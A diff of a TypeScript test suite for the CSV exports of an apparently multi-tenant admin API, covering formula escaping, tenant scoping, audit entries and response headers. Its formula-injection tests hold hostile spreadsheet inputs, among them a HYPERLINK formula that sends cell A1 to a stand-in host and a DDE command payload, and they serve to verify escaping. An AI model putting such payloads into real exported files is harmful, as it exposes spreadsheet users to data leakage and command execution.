@@ -1,19 +1,17 @@
 import { parse as parseAs } from 'csv-parse/sync';
 import { test } from 'uvu';
 import * as assert from 'uvu/assert';
-import type { Api } from '../../../src/app/api/client';
+
 import { unescapeFormulas } from '../../../src/contract/formulas';
 import { formatLines } from '../../../src/server/core/csv';
-import { pluck } from '../../answers';
+import { isRefused, pluck, table } from '../../answers';
+import { ann, ben, sue } from '../../callers';
 import { addPlayer, deposit, redeem, topUp } from '../../seed';
-import { as, pam, pat, people, refused, reset, send, services, smallServer, sql, tokenOf } from '../../world';
+import { pam, pat, people, reset, send, services, smallServer, sql, tokenOf } from '../../world';
+import { catchError } from '../catchError';
 import { eventually } from '../running';
 
-let sue: Api, ann: Api, ben: Api;
-test.before.each(async () => {
-  await reset();
-  [sue, ann, ben] = [await as('sue'), await as('ann'), await as('ben')];
-});
+test.before.each(reset);
 
 /** Reads CSV by RFC 4180, strictly: every line ends with CR LF, every field is plain or quoted as a whole. */
 function parse(text: string): string[][] {
@@ -54,40 +52,16 @@ test('a purchase stands in the file as on screen', async () => {
     completed_at: new Date('2026-03-01T11:00:00Z'),
   });
   const { titles, rows } = await read(await ann.exportPurchases({ transaction_type: 'TOP_UP' }));
-  assert.equal(titles, [
-    'ID',
-    'User Email',
-    'Type',
-    'Status',
-    'Amount',
-    'Net Amount',
-    'Payment Method',
-    'Deposit Type',
-    'Initiated At',
-    'Completed At',
-    'Description',
-    'Reference',
-    'Platform',
-  ]);
-  assert.equal(
-    rows.find(([of]) => of === String(id)),
-    [
-      String(id),
-      pam.email,
-      'TOP_UP',
-      'success',
-      '12.50',
-      '12.00',
-      'Card',
-      'FREE PLAY',
-      '2026-03-01T10:00:00.000Z',
-      '2026-03-01T11:00:00.000Z',
-      'two\r\nlines; ünï',
-      'R "1", x',
-      '',
-    ],
+  assert.is(
+    titles?.join(', '),
+    'ID, User Email, Type, Status, Amount, Net Amount, Payment Method, Deposit Type, ' +
+      'Initiated At, Completed At, Description, Reference, Platform',
   );
-  assert.equal(rows.find(([of]) => of === String(pam.purchase))?.slice(9), ['', '', 'ref-1', '']);
+  const shown = [pam.email, 'TOP_UP', 'success', '12.50', '12.00', 'Card', 'FREE PLAY'];
+  const times = ['2026-03-01T10:00:00.000Z', '2026-03-01T11:00:00.000Z'];
+  const row = (wanted: number) => rows.find(([of]) => of === String(wanted));
+  assert.equal(row(id), [String(id), ...shown, ...times, 'two\r\nlines; ünï', 'R "1", x', '']);
+  assert.equal(row(pam.purchase)?.slice(9), ['', '', 'ref-1', '']);
 });
 
 test('a file of all tenants names the tenant of each row, a file of one does not', async () => {
@@ -106,75 +80,25 @@ test('a file of all tenants names the tenant of each row, a file of one does not
 
 test('redeems and users stand in their files as on screen', async () => {
   const redeems = await read(await ann.exportRedeems());
-  assert.equal(redeems.titles, [
-    'ID',
-    'User Email',
-    'Platform',
-    'Amount',
-    'Payout Method',
-    'Payout Address',
-    'Status',
-    'Initiated At',
-    'Completed At',
-    'Type',
-    'Description',
-  ]);
-  assert.equal(redeems.rows[0]?.slice(0, 7), [
-    String(pam.redeem),
-    pam.email,
-    'vblink',
-    '150.00',
-    'Cash Tag',
-    '$tag',
-    'pending',
-  ]);
+  assert.is(
+    redeems.titles?.join(', '),
+    'ID, User Email, Platform, Amount, Payout Method, Payout Address, Status, Initiated At, Completed At, ' +
+      'Type, Description',
+  );
+  const shown = `${pam.redeem} ${pam.email} vblink 150.00 Cash Tag $tag pending`;
+  assert.is(redeems.rows[0]?.slice(0, 7).join(' '), shown);
   await redeem(pam, '100', 'success');
   const users = await read(await ann.exportPlayers());
-  assert.equal(users.rows, [
-    [
-      String(pam.id),
-      pam.email,
-      'Pam',
-      'Poe',
-      "'+1 (555) 010-2000",
-      'AFF1',
-      '',
-      '-100.00',
-      '250.00',
-      '0.00',
-      '0.00',
-      '0.00',
-      'yes',
-      (await ann.getPlayer({ id: pam.id })).created_at,
-    ],
-  ]);
+  const profile = [String(pam.id), pam.email, 'Pam', 'Poe', "'+1 (555) 010-2000", 'AFF1', ''];
+  const since = (await ann.getPlayer({ id: pam.id })).created_at;
+  assert.equal(users.rows, [[...profile, '-100.00', '250.00', '0.00', '0.00', '0.00', 'yes', since]]);
   assert.equal(users.titles?.length, users.rows[0]?.length);
 });
 
 test('no cell starts a formula, whatever precedes it, and a negative amount stays a number [ASVS 1.2.10]', async () => {
   const formulas = [
-    '=1+1',
-    '+1',
-    '-1',
-    '@SUM(A1)',
-    '\t=1',
-    '\r=1',
-    '\n=1',
-    '  =1',
-    '＝1',
-    '\u3000＋1',
-    '﹦1+1',
-    '﹢1',
-    '﹣1',
-    '－1',
-    '﹫SUM(A1)',
-    '＠SUM(A1)',
-    '⁺1',
-    '\u22121',
-    '\tplain',
-    '\rplain',
-    '"=1',
-    '=HYPERLINK("http://x")',
+    ...['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '  =1', '＝1', '\u3000＋1', '﹦1+1', '﹢1', '﹣1'],
+    ...['－1', '﹫SUM(A1)', '＠SUM(A1)', '⁺1', '\u22121', '\tplain', '\rplain', '"=1', '=HYPERLINK("http://x")'],
   ];
   for (const text of formulas) {
     const [[cell] = []] = parse(formatLines([[text]]));
@@ -189,15 +113,8 @@ test('no cell starts a formula, whatever precedes it, and a negative amount stay
 });
 
 test('no cell starts a formula behind any separator, and the import reads the text as it was', () => {
-  for (const text of [
-    'x;=HYPERLINK("http://x?"&A1);y',
-    "x;=cmd|'/c calc'!A0;y",
-    'x\t=1',
-    'x\r\n\t@1',
-    'x; ＋1',
-    '=1;-1',
-    "it's",
-  ]) {
+  const links = ['x;=HYPERLINK("http://x?"&A1);y', "x;=cmd|'/c calc'!A0;y"];
+  for (const text of [...links, 'x\t=1', 'x\r\n\t@1', 'x; ＋1', '=1;-1', "it's"]) {
     const line = formatLines([[{ raw: '1' }, text]]);
     for (const delimiter of [',', ';', '\t'])
       for (const cell of parseAs(line, { delimiter, relax_quotes: true, relax_column_count: true }).flat() as string[])
@@ -241,10 +158,7 @@ test('the file of users follows search and order', async () => {
     { search: 'nobody' },
   ]) {
     const { users } = await ann.listPlayers(query);
-    assert.equal(
-      (await read(await ann.exportPlayers({ ...query, page: 3, page_size: 25 }))).ids,
-      users.map(({ id }) => id),
-    );
+    assert.equal((await read(await ann.exportPlayers({ ...query, page: 3, page_size: 25 }))).ids, pluck(users, 'id'));
   }
 });
 
@@ -256,47 +170,30 @@ test("every export is in its tenant's audit log with the person and the filters 
   await read(await ann.exportPlayers({ search: 'mail', sort_by: 'email' }));
   await read(await sue.exportRedeems({ tenant_id: 2, status: 'pending' }));
   await read(await sue.exportPurchases());
-  await refused(ben.exportDeposits({ tenant_id: 2 }));
-  await refused(ann.exportPlayers({ sort_by: 'password_hash' as never }));
-  const ofAll = (await sue.getAudit({ kind: 'export' })).entries.map(
-    ({ email, call, tenant_id, object_id, before, after }) => ({ email, call, tenant_id, object_id, before, after }),
-  );
-  assert.equal(ofAll, [
-    { email: people.sue.email, call: 'exportPurchases', tenant_id: null, object_id: null, before: null, after: null },
-    {
-      email: people.sue.email,
-      call: 'exportRedeems',
-      tenant_id: 2,
-      object_id: null,
-      before: null,
-      after: { status: 'pending' },
-    },
-    {
-      email: people.ann.email,
-      call: 'exportPlayers',
-      tenant_id: 2,
-      object_id: null,
-      before: null,
-      after: { search: `pseudonym ${services.secrets.pseudonym('mail').slice(0, 16)}`, sort_by: 'email' },
-    },
+  await isRefused(ben.exportDeposits({ tenant_id: 2 }), 403);
+  await isRefused(ann.exportPlayers({ sort_by: 'password_hash' as never }), 422);
+  const { entries } = await sue.getAudit({ kind: 'export' });
+  const search = `pseudonym ${services.secrets.pseudonym('mail').slice(0, 16)}`;
+  assert.equal(table(entries, 'email', 'call', 'tenant_id', 'object_id', 'before', 'after'), [
+    [people.sue.email, 'exportPurchases', null, null, null, null],
+    [people.sue.email, 'exportRedeems', 2, null, null, { status: 'pending' }],
+    [people.ann.email, 'exportPlayers', 2, null, null, { search, sort_by: 'email' }],
   ]);
   assert.equal(pluck((await ann.getAudit({ kind: 'export' })).entries, 'call'), ['exportRedeems', 'exportPlayers']);
   assert.equal((await ben.getAudit({ kind: 'export' })).entries, []);
 });
 
-test('filters that make no sense are refused before a file begins', async () => {
-  assert.is(await refused(ann.exportPurchases({ from_date: '2026-03-02', to_date: '2026-03-01' })), 422);
-  assert.is(await refused(ann.exportPlayers({ sort_by: 'password_hash' as never })), 422);
-});
+test('filters that make no sense are refused before a file begins', () =>
+  isRefused(ann.exportPurchases({ from_date: '2026-03-02', to_date: '2026-03-01' }), 422));
 
 const csv = (path: string, token: string) => send('GET', path, { token, headers: { 'Accept-Encoding': 'identity' } });
 
+const heads = ({ headers }: Response) =>
+  ['Content-Type', 'Content-Disposition', 'Cache-Control', 'ETag'].map((name) => headers.get(name));
+
 test('a file is not to be kept on the way, and says what it is [ASVS 5.4.1, 5.4.2]', async () => {
   const response = await csv('/api/v1/admin/redeems/export', await tokenOf('ann'));
-  assert.is(response.headers.get('Content-Type'), 'text/csv; charset=utf-8');
-  assert.is(response.headers.get('Content-Disposition'), 'attachment; filename="redeems.csv"');
-  assert.is(response.headers.get('Cache-Control'), 'no-store');
-  assert.is(response.headers.get('ETag'), null);
+  assert.equal(heads(response), ['text/csv; charset=utf-8', 'attachment; filename="redeems.csv"', 'no-store', null]);
   await response.text();
 });
 
@@ -305,10 +202,8 @@ test('who asks only what a file would be begins none: no turn is taken, no entry
   const token = await tokenOf('ann');
   for (let n = 0; n < 4; n++) {
     const response = await send('HEAD', '/api/v1/admin/purchases/export', { token });
-    assert.equal(
-      [response.status, response.headers.get('Content-Type'), response.headers.get('Content-Disposition')],
-      [200, 'text/csv; charset=utf-8', 'attachment; filename="purchases.csv"'],
-    );
+    assert.is(response.status, 200);
+    assert.equal(heads(response).slice(0, 2), ['text/csv; charset=utf-8', 'attachment; filename="purchases.csv"']);
   }
   assert.equal((await ann.getAudit({ kind: 'export' })).entries, []);
   assert.is((await read(await ann.exportPurchases())).rows.length, 6001);
@@ -375,13 +270,10 @@ test('a file whose reading breaks off in the middle breaks off too, and never lo
   await sql`
     select pg_terminate_backend(pid) from pg_stat_activity
     where datname = current_database() and query like 'fetch %' and state <> 'idle'`;
-  let failure: unknown;
-  try {
+  const rest = async () => {
     for (let part = await reader.read(); !part.done; part = await reader.read());
-  } catch (error) {
-    failure = error;
-  }
-  assert.ok(failure !== undefined);
+  };
+  await catchError(rest());
   // The driver may use the cut connection once more before it notices. One query on each connection spares later tests.
   await Promise.allSettled(Array.from({ length: 10 }, () => sql`select pg_sleep(0.05)`));
 });
